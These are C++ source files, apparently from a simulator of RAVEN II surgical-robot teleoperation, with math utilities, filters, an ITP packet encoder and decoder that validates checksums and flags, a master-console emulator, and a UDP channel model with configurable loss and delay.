      static_cast<std::uint64_t>(std::bit_cast<std::uint64_t>(nd)) & 3U;
  const double n = nd - detail::kRoundMagic;
  double r = ((x - n * kPio2Hi) - n * kPio2Mid) - n * kPio2Lo;
  // Guard: if |x| was too large for the magic-number reduction, r is not
  // reduced; clamp into the primary interval (bounded garbage, no NaN).
  // Two min/max-shaped selects, not one nested ternary: GCC folds these
  // to MIN_EXPR/MAX_EXPR (vector minpd/maxpd), where the nested form
  // becomes a generic blend it cannot emit for SSE2-era targets.
  r = r > 0.7853982 ? 0.7853982 : r;
  r = r < -0.7853982 ? -0.7853982 : r;
  const double r2 = r * r;

  // Taylor kernels on |r| <= pi/4: sin to r^15 (err ~5e-17), cos to r^16.
  double sp = -1.0 / 1307674368000.0;  // -1/15!
  sp = sp * r2 + 1.0 / 6227020800.0;
  sp = sp * r2 - 1.0 / 39916800.0;
  sp = sp * r2 + 1.0 / 362880.0;
  sp = sp * r2 - 1.0 / 5040.0;
  sp = sp * r2 + 1.0 / 120.0;
  sp = sp * r2 - 1.0 / 6.0;
  const double sr = r + r * r2 * sp;

  double cp = 1.0 / 20922789888000.0;  // 1/16!
  cp = cp * r2 - 1.0 / 87178291200.0;
  cp = cp * r2 + 1.0 / 479001600.0;
  cp = cp * r2 - 1.0 / 3628800.0;
  cp = cp * r2 + 1.0 / 40320.0;
  cp = cp * r2 - 1.0 / 720.0;
  cp = cp * r2 + 1.0 / 24.0;
  const double cr = 1.0 + r2 * (cp * r2 - 0.5);

  // Quadrant rotation via mask/sign-bit arithmetic:
  //   n mod 4: 0 -> ( sr,  cr), 1 -> ( cr, -sr), 2 -> (-sr, -cr), 3 -> (-cr, sr)
  // Shifts/and/or/xor only — no 64-bit integer compares, which SSE2 lacks;
  // a bool-conditioned select here would veto vectorizing the enclosing
  // lane loop.  Negation is an exact sign-bit flip, so the results are
  // bit-identical to the ternary formulation.
  const std::uint64_t swap_mask = 0ULL - (quadrant & 1ULL);  // all-ones when odd
  const std::uint64_t sr_bits = std::bit_cast<std::uint64_t>(sr);
  const std::uint64_t cr_bits = std::bit_cast<std::uint64_t>(cr);
  const std::uint64_t s_mag = (cr_bits & swap_mask) | (sr_bits & ~swap_mask);
  const std::uint64_t c_mag = (sr_bits & swap_mask) | (cr_bits & ~swap_mask);
  const std::uint64_t neg_s = (quadrant >> 1U) << 63U;                        // quadrants 2,3
  const std::uint64_t neg_c = ((quadrant ^ (quadrant >> 1U)) & 1ULL) << 63U;  // quadrants 1,2
  s_out = std::bit_cast<double>(s_mag ^ neg_s);
  c_out = std::bit_cast<double>(c_mag ^ neg_c);
}

}  // namespace rg
