#include "math/filters.hpp"

namespace rg {

LowPassFilter LowPassFilter::from_cutoff(double cutoff_hz, double dt_sec) {
  if (cutoff_hz <= 0.0 || dt_sec <= 0.0) {
    throw std::invalid_argument("LowPassFilter::from_cutoff: positive cutoff and dt required");
  }
  const double rc = 1.0 / (2.0 * 3.14159265358979323846 * cutoff_hz);
  return LowPassFilter(dt_sec / (rc + dt_sec));
}

}  // namespace rg
