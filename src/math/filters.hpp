// Causal signal filters used on encoder feedback and detector signals.
#pragma once

#include <cstddef>
#include <deque>
#include <stdexcept>

#include "common/realtime.hpp"

namespace rg {

/// First-order exponential low-pass filter: y += alpha * (x - y).
class LowPassFilter {
 public:
  /// alpha in (0, 1]; alpha == 1 passes the input through unchanged.
  explicit LowPassFilter(double alpha) : alpha_(alpha) {
    if (alpha <= 0.0 || alpha > 1.0) throw std::invalid_argument("LowPassFilter alpha in (0,1]");
  }

  /// Build from a cutoff frequency and a sample period (bilinear-free RC
  /// approximation: alpha = dt / (RC + dt)).
  static LowPassFilter from_cutoff(double cutoff_hz, double dt_sec);

  RG_REALTIME double update(double x) noexcept {
    if (!primed_) {
      y_ = x;
      primed_ = true;
    } else {
      y_ += alpha_ * (x - y_);
    }
    return y_;
  }

  [[nodiscard]] RG_REALTIME double value() const noexcept { return y_; }
  RG_REALTIME void reset() noexcept { primed_ = false; y_ = 0.0; }

 private:
  double alpha_;
  double y_ = 0.0;
  bool primed_ = false;
};

/// Sliding-window moving average with O(1) update.
class MovingAverage {
 public:
  explicit MovingAverage(std::size_t window) : window_(window) {
    if (window == 0) throw std::invalid_argument("MovingAverage window must be > 0");
  }

  double update(double x) {
    buf_.push_back(x);
    sum_ += x;
    if (buf_.size() > window_) {
      sum_ -= buf_.front();
      buf_.pop_front();
    }
    return value();
  }

  [[nodiscard]] double value() const noexcept {
    return buf_.empty() ? 0.0 : sum_ / static_cast<double>(buf_.size());
  }
  [[nodiscard]] std::size_t count() const noexcept { return buf_.size(); }
  void reset() noexcept { buf_.clear(); sum_ = 0.0; }

 private:
  std::size_t window_;
  std::deque<double> buf_;
  double sum_ = 0.0;
};

/// Backward-difference differentiator with optional low-pass smoothing —
/// how the control software estimates velocity from quantized encoder
/// positions.
class Differentiator {
 public:
  /// dt: sample period (s); smoothing_alpha in (0,1], 1 = no smoothing.
  Differentiator(double dt, double smoothing_alpha = 1.0)
      : dt_(dt), lpf_(smoothing_alpha) {
    if (dt <= 0.0) throw std::invalid_argument("Differentiator dt must be > 0");
  }

  RG_REALTIME double update(double x) noexcept {
    double deriv = 0.0;
    if (primed_) deriv = (x - prev_) / dt_;
    prev_ = x;
    primed_ = true;
    return lpf_.update(deriv);
  }

  [[nodiscard]] RG_REALTIME double value() const noexcept { return lpf_.value(); }
  RG_REALTIME void reset() noexcept {
    primed_ = false;
    prev_ = 0.0;
    lpf_.reset();
  }

 private:
  double dt_;
  double prev_ = 0.0;
  bool primed_ = false;
  LowPassFilter lpf_;
};

}  // namespace rg
