// Small dense 3x3 matrix used for motor<->joint coupling transforms.
#pragma once

#include <array>
#include <cmath>
#include <stdexcept>

#include "common/realtime.hpp"
#include "math/vec.hpp"

namespace rg {

/// Row-major 3x3 matrix of doubles.
struct Mat3 {
  // m[row][col]
  std::array<std::array<double, 3>, 3> m{};

  static constexpr Mat3 identity() {
    Mat3 r;
    r.m[0][0] = r.m[1][1] = r.m[2][2] = 1.0;
    return r;
  }

  static constexpr Mat3 diagonal(double a, double b, double c) {
    Mat3 r;
    r.m[0][0] = a;
    r.m[1][1] = b;
    r.m[2][2] = c;
    return r;
  }

  constexpr double& operator()(std::size_t row, std::size_t col) { return m[row][col]; }
  constexpr double operator()(std::size_t row, std::size_t col) const { return m[row][col]; }

  friend constexpr Vec3 operator*(const Mat3& a, const Vec3& x) {
    Vec3 y;
    for (std::size_t i = 0; i < 3; ++i) {
      y[i] = a.m[i][0] * x[0] + a.m[i][1] * x[1] + a.m[i][2] * x[2];
    }
    return y;
  }

  friend constexpr Mat3 operator*(const Mat3& a, const Mat3& b) {
    Mat3 c;
    for (std::size_t i = 0; i < 3; ++i) {
      for (std::size_t j = 0; j < 3; ++j) {
        c.m[i][j] = a.m[i][0] * b.m[0][j] + a.m[i][1] * b.m[1][j] + a.m[i][2] * b.m[2][j];
      }
    }
    return c;
  }

  friend constexpr bool operator==(const Mat3&, const Mat3&) = default;

  [[nodiscard]] RG_REALTIME constexpr Mat3 transpose() const {
    Mat3 t;
    for (std::size_t i = 0; i < 3; ++i) {
      for (std::size_t j = 0; j < 3; ++j) t.m[i][j] = m[j][i];
    }
    return t;
  }

  [[nodiscard]] constexpr double determinant() const {
    return m[0][0] * (m[1][1] * m[2][2] - m[1][2] * m[2][1]) -
           m[0][1] * (m[1][0] * m[2][2] - m[1][2] * m[2][0]) +
           m[0][2] * (m[1][0] * m[2][1] - m[1][1] * m[2][0]);
  }

  /// Matrix inverse by adjugate.  Throws std::domain_error when singular
  /// (|det| below 1e-12 of the matrix scale).
  [[nodiscard]] Mat3 inverse() const {
    const double det = determinant();
    if (std::abs(det) < 1e-12) throw std::domain_error("Mat3::inverse: singular matrix");
    const double inv_det = 1.0 / det;
    Mat3 r;
    r.m[0][0] = (m[1][1] * m[2][2] - m[1][2] * m[2][1]) * inv_det;
    r.m[0][1] = (m[0][2] * m[2][1] - m[0][1] * m[2][2]) * inv_det;
    r.m[0][2] = (m[0][1] * m[1][2] - m[0][2] * m[1][1]) * inv_det;
    r.m[1][0] = (m[1][2] * m[2][0] - m[1][0] * m[2][2]) * inv_det;
    r.m[1][1] = (m[0][0] * m[2][2] - m[0][2] * m[2][0]) * inv_det;
    r.m[1][2] = (m[0][2] * m[1][0] - m[0][0] * m[1][2]) * inv_det;
    r.m[2][0] = (m[1][0] * m[2][1] - m[1][1] * m[2][0]) * inv_det;
    r.m[2][1] = (m[0][1] * m[2][0] - m[0][0] * m[2][1]) * inv_det;
    r.m[2][2] = (m[0][0] * m[1][1] - m[0][1] * m[1][0]) * inv_det;
    return r;
  }
};

}  // namespace rg
