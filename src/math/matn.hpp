// Small fixed-size dense matrices for estimator covariance algebra.
#pragma once

#include <array>
#include <cmath>
#include <cstddef>
#include <optional>

#include "math/vec.hpp"

namespace rg {

/// Row-major N x N matrix of doubles (stack storage).
template <std::size_t N>
struct MatN {
  std::array<std::array<double, N>, N> m{};

  static constexpr MatN identity() {
    MatN r;
    for (std::size_t i = 0; i < N; ++i) r.m[i][i] = 1.0;
    return r;
  }

  static constexpr MatN diagonal(const Vec<N>& d) {
    MatN r;
    for (std::size_t i = 0; i < N; ++i) r.m[i][i] = d[i];
    return r;
  }

  constexpr double& operator()(std::size_t row, std::size_t col) { return m[row][col]; }
  constexpr double operator()(std::size_t row, std::size_t col) const { return m[row][col]; }

  friend constexpr MatN operator+(const MatN& a, const MatN& b) {
    MatN r;
    for (std::size_t i = 0; i < N; ++i) {
      for (std::size_t j = 0; j < N; ++j) r.m[i][j] = a.m[i][j] + b.m[i][j];
    }
    return r;
  }

  friend constexpr MatN operator*(double s, const MatN& a) {
    MatN r;
    for (std::size_t i = 0; i < N; ++i) {
      for (std::size_t j = 0; j < N; ++j) r.m[i][j] = s * a.m[i][j];
    }
    return r;
  }

  friend constexpr Vec<N> operator*(const MatN& a, const Vec<N>& x) {
    Vec<N> y;
    for (std::size_t i = 0; i < N; ++i) {
      double s = 0.0;
      for (std::size_t j = 0; j < N; ++j) s += a.m[i][j] * x[j];
      y[i] = s;
    }
    return y;
  }

  /// Rank-1 update: this += w * v v^T.
  constexpr void add_outer(double w, const Vec<N>& v) {
    for (std::size_t i = 0; i < N; ++i) {
      for (std::size_t j = 0; j < N; ++j) m[i][j] += w * v[i] * v[j];
    }
  }

  /// Symmetrize in place (covariance hygiene after accumulations).
  constexpr void symmetrize() {
    for (std::size_t i = 0; i < N; ++i) {
      for (std::size_t j = i + 1; j < N; ++j) {
        const double avg = 0.5 * (m[i][j] + m[j][i]);
        m[i][j] = m[j][i] = avg;
      }
    }
  }
};

/// Lower-triangular Cholesky factor L with A = L L^T; nullopt when A is
/// not (numerically) positive definite.
template <std::size_t N>
std::optional<MatN<N>> cholesky_lower(const MatN<N>& a) {
  MatN<N> l{};
  for (std::size_t i = 0; i < N; ++i) {
    for (std::size_t j = 0; j <= i; ++j) {
      double sum = a.m[i][j];
      for (std::size_t k = 0; k < j; ++k) sum -= l.m[i][k] * l.m[j][k];
      if (i == j) {
        if (sum <= 0.0) return std::nullopt;
        l.m[i][i] = std::sqrt(sum);
      } else {
        l.m[i][j] = sum / l.m[j][j];
      }
    }
  }
  return l;
}

}  // namespace rg
