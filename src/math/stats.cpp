#include "math/stats.hpp"

#include <algorithm>
#include <cmath>
#include <stdexcept>

namespace rg {

double mean(std::span<const double> xs) noexcept {
  if (xs.empty()) return 0.0;
  double s = 0.0;
  for (double x : xs) s += x;
  return s / static_cast<double>(xs.size());
}

double stddev(std::span<const double> xs) noexcept {
  if (xs.size() < 2) return 0.0;
  const double m = mean(xs);
  double s2 = 0.0;
  for (double x : xs) s2 += (x - m) * (x - m);
  return std::sqrt(s2 / static_cast<double>(xs.size() - 1));
}

double min_value(std::span<const double> xs) noexcept {
  if (xs.empty()) return 0.0;
  return *std::min_element(xs.begin(), xs.end());
}

double max_value(std::span<const double> xs) noexcept {
  if (xs.empty()) return 0.0;
  return *std::max_element(xs.begin(), xs.end());
}

double mean_absolute_error(std::span<const double> a, std::span<const double> b) {
  if (a.size() != b.size()) throw std::invalid_argument("MAE: length mismatch");
  if (a.empty()) return 0.0;
  double s = 0.0;
  for (std::size_t i = 0; i < a.size(); ++i) s += std::abs(a[i] - b[i]);
  return s / static_cast<double>(a.size());
}

double rms_error(std::span<const double> a, std::span<const double> b) {
  if (a.size() != b.size()) throw std::invalid_argument("RMSE: length mismatch");
  if (a.empty()) return 0.0;
  double s = 0.0;
  for (std::size_t i = 0; i < a.size(); ++i) s += (a[i] - b[i]) * (a[i] - b[i]);
  return std::sqrt(s / static_cast<double>(a.size()));
}

double percentile(std::span<const double> xs, double p) {
  if (xs.empty()) throw std::invalid_argument("percentile: empty input");
  if (p < 0.0 || p > 100.0) throw std::invalid_argument("percentile: p outside [0,100]");
  std::vector<double> sorted(xs.begin(), xs.end());
  std::sort(sorted.begin(), sorted.end());
  if (sorted.size() == 1) return sorted.front();
  const double rank = p / 100.0 * static_cast<double>(sorted.size() - 1);
  const auto lo = static_cast<std::size_t>(rank);
  const std::size_t hi = std::min(lo + 1, sorted.size() - 1);
  const double frac = rank - static_cast<double>(lo);
  return sorted[lo] + frac * (sorted[hi] - sorted[lo]);
}

void RunningStats::add(double x) noexcept {
  if (n_ == 0) {
    min_ = max_ = x;
  } else {
    min_ = std::min(min_, x);
    max_ = std::max(max_, x);
  }
  ++n_;
  const double delta = x - mean_;
  mean_ += delta / static_cast<double>(n_);
  m2_ += delta * (x - mean_);
}

double RunningStats::stddev() const noexcept {
  if (n_ < 2) return 0.0;
  return std::sqrt(m2_ / static_cast<double>(n_ - 1));
}

}  // namespace rg
