// Descriptive statistics used for threshold learning and model validation.
#pragma once

#include <cstddef>
#include <span>
#include <vector>

namespace rg {

/// Arithmetic mean; 0 for an empty span.
double mean(std::span<const double> xs) noexcept;

/// Sample standard deviation (n-1 denominator); 0 for n < 2.
double stddev(std::span<const double> xs) noexcept;

/// Minimum / maximum; 0 for empty input.
double min_value(std::span<const double> xs) noexcept;
double max_value(std::span<const double> xs) noexcept;

/// Mean absolute error between two equal-length series.
/// Throws std::invalid_argument on length mismatch.
double mean_absolute_error(std::span<const double> a, std::span<const double> b);

/// Root-mean-square error between two equal-length series.
double rms_error(std::span<const double> a, std::span<const double> b);

/// p-th percentile (p in [0,100]) with linear interpolation between order
/// statistics.  Copies and sorts internally.  Throws on empty input or p
/// outside [0,100].
double percentile(std::span<const double> xs, double p);

/// Incremental accumulator for min/max/mean/std over a stream — used to
/// summarise per-step timings without storing every sample.
class RunningStats {
 public:
  void add(double x) noexcept;
  [[nodiscard]] std::size_t count() const noexcept { return n_; }
  [[nodiscard]] double mean() const noexcept { return n_ > 0 ? mean_ : 0.0; }
  [[nodiscard]] double stddev() const noexcept;
  [[nodiscard]] double min() const noexcept { return n_ > 0 ? min_ : 0.0; }
  [[nodiscard]] double max() const noexcept { return n_ > 0 ? max_ : 0.0; }
  void reset() noexcept { *this = RunningStats{}; }

 private:
  std::size_t n_ = 0;
  double mean_ = 0.0;
  double m2_ = 0.0;
  double min_ = 0.0;
  double max_ = 0.0;
};

}  // namespace rg
