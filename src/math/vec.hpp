// Small fixed-size vector algebra.
//
// The dynamics code works on small state vectors (3 joints, 12-dim ODE
// state); std::array-backed value types keep everything on the stack.
#pragma once

#include <algorithm>
#include <array>
#include <cmath>
#include <cstddef>
#include <initializer_list>
#include <stdexcept>

#include "common/realtime.hpp"

namespace rg {

/// Fixed-size arithmetic vector of N doubles.
template <std::size_t N>
struct Vec {
  std::array<double, N> v{};

  constexpr Vec() = default;
  constexpr Vec(std::initializer_list<double> init) {
    if (init.size() != N) throw std::invalid_argument("Vec initializer size mismatch");
    std::size_t i = 0;
    for (double x : init) v[i++] = x;
  }

  RG_REALTIME static constexpr Vec zero() { return Vec{}; }
  RG_REALTIME static constexpr Vec filled(double x) {
    Vec r;
    r.v.fill(x);
    return r;
  }

  constexpr double& operator[](std::size_t i) { return v[i]; }
  constexpr double operator[](std::size_t i) const { return v[i]; }
  static constexpr std::size_t size() { return N; }

  constexpr Vec& operator+=(const Vec& o) {
    for (std::size_t i = 0; i < N; ++i) v[i] += o.v[i];
    return *this;
  }
  constexpr Vec& operator-=(const Vec& o) {
    for (std::size_t i = 0; i < N; ++i) v[i] -= o.v[i];
    return *this;
  }
  constexpr Vec& operator*=(double s) {
    for (double& x : v) x *= s;
    return *this;
  }

  friend constexpr Vec operator+(Vec a, const Vec& b) { return a += b; }
  friend constexpr Vec operator-(Vec a, const Vec& b) { return a -= b; }
  friend constexpr Vec operator*(Vec a, double s) { return a *= s; }
  friend constexpr Vec operator*(double s, Vec a) { return a *= s; }
  friend constexpr Vec operator/(Vec a, double s) { return a *= (1.0 / s); }
  friend constexpr Vec operator-(Vec a) { return a *= -1.0; }
  friend constexpr bool operator==(const Vec& a, const Vec& b) { return a.v == b.v; }

  [[nodiscard]] RG_REALTIME constexpr double dot(const Vec& o) const {
    double s = 0.0;
    for (std::size_t i = 0; i < N; ++i) s += v[i] * o.v[i];
    return s;
  }

  [[nodiscard]] RG_REALTIME double norm() const { return std::sqrt(dot(*this)); }

  [[nodiscard]] RG_REALTIME double norm_inf() const {
    double m = 0.0;
    for (double x : v) m = std::max(m, std::abs(x));
    return m;
  }
};

using Vec3 = Vec<3>;

/// 3D cross product.
RG_REALTIME inline constexpr Vec3 cross(const Vec3& a, const Vec3& b) {
  return Vec3{a[1] * b[2] - a[2] * b[1],
              a[2] * b[0] - a[0] * b[2],
              a[0] * b[1] - a[1] * b[0]};
}

/// Euclidean distance between two points.
template <std::size_t N>
RG_REALTIME double distance(const Vec<N>& a, const Vec<N>& b) {
  return (a - b).norm();
}

/// Clamp each component to [lo, hi].
template <std::size_t N>
RG_REALTIME constexpr Vec<N> clamp(Vec<N> x, double lo, double hi) {
  for (double& c : x.v) c = std::clamp(c, lo, hi);
  return x;
}

}  // namespace rg
