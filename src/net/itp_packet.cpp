#include "net/itp_packet.hpp"

#include <cmath>

#include "hw/usb_packet.hpp"  // xor_checksum

namespace rg {

namespace {

constexpr double kMetresToNano = 1.0e9;
constexpr double kRadToMicro = 1.0e6;

RG_REALTIME void put_u32(std::span<std::uint8_t> dst, std::uint32_t v) noexcept {
  dst[0] = static_cast<std::uint8_t>(v & 0xFF);
  dst[1] = static_cast<std::uint8_t>((v >> 8) & 0xFF);
  dst[2] = static_cast<std::uint8_t>((v >> 16) & 0xFF);
  dst[3] = static_cast<std::uint8_t>((v >> 24) & 0xFF);
}

RG_REALTIME std::uint32_t get_u32(std::span<const std::uint8_t> src) noexcept {
  return static_cast<std::uint32_t>(src[0]) | (static_cast<std::uint32_t>(src[1]) << 8) |
         (static_cast<std::uint32_t>(src[2]) << 16) | (static_cast<std::uint32_t>(src[3]) << 24);
}

RG_REALTIME void put_i32(std::span<std::uint8_t> dst, std::int32_t v) noexcept {
  put_u32(dst, static_cast<std::uint32_t>(v));
}

RG_REALTIME std::int32_t get_i32(std::span<const std::uint8_t> src) noexcept {
  return static_cast<std::int32_t>(get_u32(src));
}

RG_REALTIME std::int32_t quantize(double value, double scale) noexcept {
  const double scaled = value * scale;
  // Saturate rather than wrap on absurd increments.
  if (scaled >= 2147483647.0) return 2147483647;
  if (scaled <= -2147483648.0) return -2147483647 - 1;
  return static_cast<std::int32_t>(std::lround(scaled));
}

}  // namespace

RG_REALTIME ItpBytes encode_itp(const ItpPacket& pkt) noexcept {
  ItpBytes out{};
  put_u32(std::span{out}.subspan(0, 4), pkt.sequence);
  out[4] = pkt.pedal_down ? 0x01 : 0x00;
  for (std::size_t i = 0; i < 3; ++i) {
    put_i32(std::span{out}.subspan(5 + 4 * i, 4), quantize(pkt.pos_increment[i], kMetresToNano));
    put_i32(std::span{out}.subspan(17 + 4 * i, 4), quantize(pkt.ori_increment[i], kRadToMicro));
  }
  out[kItpPacketSize - 1] = xor_checksum(std::span{out}.first(kItpPacketSize - 1));
  return out;
}

RG_REALTIME Result<ItpPacket> decode_itp(std::span<const std::uint8_t> bytes,
                                         bool verify_checksum) noexcept {
  if (bytes.size() != kItpPacketSize) {
    return Error{ErrorCode::kMalformedPacket, "ITP packet must be 30 bytes"};
  }
  if (verify_checksum &&
      xor_checksum(bytes.first(kItpPacketSize - 1)) != bytes[kItpPacketSize - 1]) {
    return Error{ErrorCode::kChecksumMismatch, "ITP packet checksum mismatch"};
  }
  // Flag bits 1..7 are undefined by the protocol.  A packet with any of
  // them set is rejected outright (distinct from a checksum failure):
  // silently masking unknown bits would let a tampered-but-rechecksummed
  // packet pass as clean.
  if ((bytes[4] & ~kItpDefinedFlagMask) != 0) {
    return Error{ErrorCode::kMalformedFlags, "ITP packet has undefined flag bits set"};
  }
  ItpPacket pkt;
  pkt.sequence = get_u32(bytes.subspan(0, 4));
  pkt.pedal_down = (bytes[4] & 0x01) != 0;
  for (std::size_t i = 0; i < 3; ++i) {
    pkt.pos_increment[i] =
        static_cast<double>(get_i32(bytes.subspan(5 + 4 * i, 4))) / kMetresToNano;
    pkt.ori_increment[i] =
        static_cast<double>(get_i32(bytes.subspan(17 + 4 * i, 4))) / kRadToMicro;
  }
  return pkt;
}

}  // namespace rg
