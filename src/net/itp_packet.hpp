// Interoperable Teleoperation Protocol (ITP) packet.
//
// The RAVEN II console sends operator commands over UDP using ITP: packet
// sequence number, foot-pedal state, and *incremental* desired motions of
// the tool (the console integrates master-manipulator deltas).  We encode
// position increments as signed nanometres and orientation increments as
// signed microradians in 32-bit fields — integer wire formats as in the
// real protocol, with enough resolution that quantization does not
// accumulate at 1 kHz.
//
// Wire layout (30 bytes, little-endian):
//   [0..3]   u32 sequence number
//   [4]      u8  flags (bit 0: foot pedal down)
//   [5..16]  3 x i32 position increment, nanometres
//   [17..28] 3 x i32 orientation increment, microradians
//   [29]     u8  XOR checksum of bytes 0..28
#pragma once

#include <array>
#include <cstdint>
#include <span>

#include "common/error.hpp"
#include "common/realtime.hpp"
#include "kinematics/types.hpp"

namespace rg {

inline constexpr std::size_t kItpPacketSize = 30;
using ItpBytes = std::array<std::uint8_t, kItpPacketSize>;

/// Flag bits the protocol defines (bit 0: foot pedal).  Bits 1..7 are
/// undefined; decode_itp rejects packets that set any of them
/// (ErrorCode::kMalformedFlags — distinct from a checksum failure).
inline constexpr std::uint8_t kItpDefinedFlagMask = 0x01;

struct ItpPacket {
  std::uint32_t sequence = 0;
  bool pedal_down = false;
  Vec3 pos_increment{};  ///< metres
  Vec3 ori_increment{};  ///< radians

  friend bool operator==(const ItpPacket&, const ItpPacket&) = default;
};

/// Serialize (computes checksum; quantizes increments to nm / urad).
[[nodiscard]] RG_REALTIME ItpBytes encode_itp(const ItpPacket& pkt) noexcept;

/// Parse.  The control software *does* verify the ITP checksum (unlike
/// the USB boards) — a mangled network packet is dropped, not executed.
[[nodiscard]] RG_REALTIME Result<ItpPacket> decode_itp(std::span<const std::uint8_t> bytes,
                                                       bool verify_checksum = true) noexcept;

}  // namespace rg
