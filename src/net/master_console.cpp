#include "net/master_console.hpp"

#include <cmath>

#include "common/error.hpp"
#include "common/units.hpp"

namespace rg {

MasterConsole::MasterConsole(std::shared_ptr<const Trajectory> trajectory, PedalSchedule schedule,
                             OrientationMotion orientation)
    : trajectory_(std::move(trajectory)),
      schedule_(std::move(schedule)),
      orientation_(orientation) {
  require(trajectory_ != nullptr, "MasterConsole trajectory must not be null");
}

Vec3 MasterConsole::orientation_at(double t) const noexcept {
  const double w = 2.0 * kPi * orientation_.frequency_hz;
  // Phase-staggered sinusoids so the three wrist axes move independently.
  return Vec3{orientation_.amplitude[0] * std::sin(w * t),
              orientation_.amplitude[1] * std::sin(1.37 * w * t + 0.9),
              orientation_.amplitude[2] * std::sin(0.81 * w * t + 2.1)};
}

ItpPacket MasterConsole::tick() {
  const double t = session_time();
  const bool pedal = schedule_.pedal_down_at(t);

  ItpPacket pkt;
  pkt.sequence = sequence_++;
  pkt.pedal_down = pedal;

  if (pedal) {
    const Position pos = trajectory_->position(traj_time_);
    const Vec3 ori = orientation_at(traj_time_);
    if (last_pos_valid_) {
      pkt.pos_increment = pos - last_pos_;
      pkt.ori_increment = ori - last_ori_;
    }
    // else: first tick after pedal-down — send zero increment so the
    // robot's desired pose stays anchored at its current position.
    last_pos_ = pos;
    last_ori_ = ori;
    last_pos_valid_ = true;
    traj_time_ += kControlPeriodSec;
  } else {
    // Pedal up: master decoupled, no motion commands.
    last_pos_valid_ = false;
  }

  ++tick_count_;
  return pkt;
}

}  // namespace rg
