// Master (teleoperation) console emulator.
//
// Mirrors the paper's "master console emulator that mimics the
// teleoperation console functionality by generating user input packets
// based on previously collected trajectories".  Each control tick it
// emits one ITP packet carrying the foot-pedal state and the incremental
// tool motion since the previous tick.  The trajectory clock only
// advances while the pedal is down — lifting the pedal decouples the
// master, exactly as on the robot.
#pragma once

#include <cstdint>
#include <memory>
#include <vector>

#include "common/clock.hpp"
#include "net/itp_packet.hpp"
#include "trajectory/trajectory.hpp"

namespace rg {

/// Pedal press intervals in session time (seconds); outside every
/// interval the pedal is up.
struct PedalSchedule {
  struct Interval {
    double t_down = 0.0;
    double t_up = 0.0;
  };
  std::vector<Interval> intervals;

  /// Pedal held down for the whole session after a lead-in.
  static PedalSchedule hold_from(double t_down, double t_up = 1.0e9) {
    return PedalSchedule{{Interval{t_down, t_up}}};
  }

  [[nodiscard]] bool pedal_down_at(double t) const noexcept {
    for (const auto& iv : intervals) {
      if (t >= iv.t_down && t < iv.t_up) return true;
    }
    return false;
  }
};

/// Wrist motion the operator superimposes on the tool path: smooth
/// sinusoidal orientation changes per axis (rad).  Zero amplitude = no
/// orientation commands.
struct OrientationMotion {
  Vec3 amplitude{0.12, 0.08, 0.15};
  double frequency_hz = 0.3;
};

class MasterConsole {
 public:
  MasterConsole(std::shared_ptr<const Trajectory> trajectory, PedalSchedule schedule,
                OrientationMotion orientation = {});

  /// Generate the ITP packet for the current session time, then advance
  /// the console by one control tick.
  [[nodiscard]] ItpPacket tick();

  /// Session time (s) of the next packet to be generated.
  [[nodiscard]] double session_time() const noexcept {
    return static_cast<double>(tick_count_) * kControlPeriodSec;
  }

  /// Trajectory progress time (s) — advances only while the pedal is down.
  [[nodiscard]] double trajectory_time() const noexcept { return traj_time_; }

  /// True when the trajectory has been fully played out.
  [[nodiscard]] bool finished() const noexcept {
    return traj_time_ >= trajectory_->duration();
  }

 private:
  [[nodiscard]] Vec3 orientation_at(double t) const noexcept;

  std::shared_ptr<const Trajectory> trajectory_;
  PedalSchedule schedule_;
  OrientationMotion orientation_;
  std::uint64_t tick_count_ = 0;
  std::uint32_t sequence_ = 0;
  double traj_time_ = 0.0;
  Position last_pos_{};
  Vec3 last_ori_{};
  bool last_pos_valid_ = false;
};

}  // namespace rg
