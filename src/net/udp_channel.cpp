#include "net/udp_channel.hpp"

#include "common/error.hpp"

namespace rg {

UdpChannel::UdpChannel(const UdpChannelConfig& config) : config_(config), rng_(config.seed) {
  require(config.loss_probability >= 0.0 && config.loss_probability <= 1.0,
          "loss_probability in [0,1]");
  require(config.duplicate_probability >= 0.0 && config.duplicate_probability <= 1.0,
          "duplicate_probability in [0,1]");
  require(config.reorder_probability >= 0.0 && config.reorder_probability <= 1.0,
          "reorder_probability in [0,1]");
}

void UdpChannel::send(std::vector<std::uint8_t> datagram) {
  ++sent_;
  if (config_.loss_probability > 0.0 && rng_.uniform() < config_.loss_probability) {
    ++dropped_;
    return;
  }
  const auto draw_delay = [this]() {
    std::uint64_t delay = config_.min_delay_ticks;
    if (config_.jitter_ticks > 0) delay += rng_.uniform_int(0, config_.jitter_ticks);
    return delay;
  };
  if (config_.duplicate_probability > 0.0 && rng_.uniform() < config_.duplicate_probability) {
    ++duplicated_;
    queue_.push_back(InFlight{now_ + draw_delay(), datagram});
  }
  queue_.push_back(InFlight{now_ + draw_delay(), std::move(datagram)});
  // Adjacent-swap reordering: queue position decides delivery order among
  // equally-deliverable datagrams, so swapping with the previous entry
  // reorders even a zero-jitter stream.
  if (queue_.size() >= 2 && config_.reorder_probability > 0.0 &&
      rng_.uniform() < config_.reorder_probability) {
    ++reordered_;
    std::swap(queue_[queue_.size() - 1], queue_[queue_.size() - 2]);
  }
}

std::optional<std::vector<std::uint8_t>> UdpChannel::receive() {
  // UDP reordering: jittered datagrams may become deliverable out of send
  // order; scan for the first deliverable one.
  for (auto it = queue_.begin(); it != queue_.end(); ++it) {
    if (it->deliver_at <= now_) {
      std::vector<std::uint8_t> payload = std::move(it->payload);
      queue_.erase(it);
      return payload;
    }
  }
  return std::nullopt;
}

}  // namespace rg
