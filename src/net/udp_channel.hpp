// Simulated UDP datagram channel with configurable loss and delay.
//
// ITP runs over UDP; prior work (Bonaci et al.) showed loss/delay alone
// degrade teleoperation, so the channel model lets experiments reproduce
// that baseline threat as well.  Default configuration is a perfect link.
#pragma once

#include <cstdint>
#include <deque>
#include <optional>
#include <vector>

#include "common/rng.hpp"

namespace rg {

struct UdpChannelConfig {
  double loss_probability = 0.0;   ///< i.i.d. datagram loss
  /// i.i.d. duplication: with this probability a datagram is delivered
  /// twice (the copy draws its own delay, so dup + jitter also reorders).
  double duplicate_probability = 0.0;
  /// i.i.d. adjacent-swap reordering: with this probability a datagram is
  /// queued *ahead* of the previously queued one, so equal-delay streams
  /// still arrive out of send order.
  double reorder_probability = 0.0;
  std::uint32_t min_delay_ticks = 0;  ///< fixed delivery latency (control ticks)
  std::uint32_t jitter_ticks = 0;     ///< uniform extra delay in [0, jitter]
  std::uint64_t seed = 7;
};

class UdpChannel {
 public:
  explicit UdpChannel(const UdpChannelConfig& config = {});

  /// Enqueue a datagram at the current tick.
  void send(std::vector<std::uint8_t> datagram);

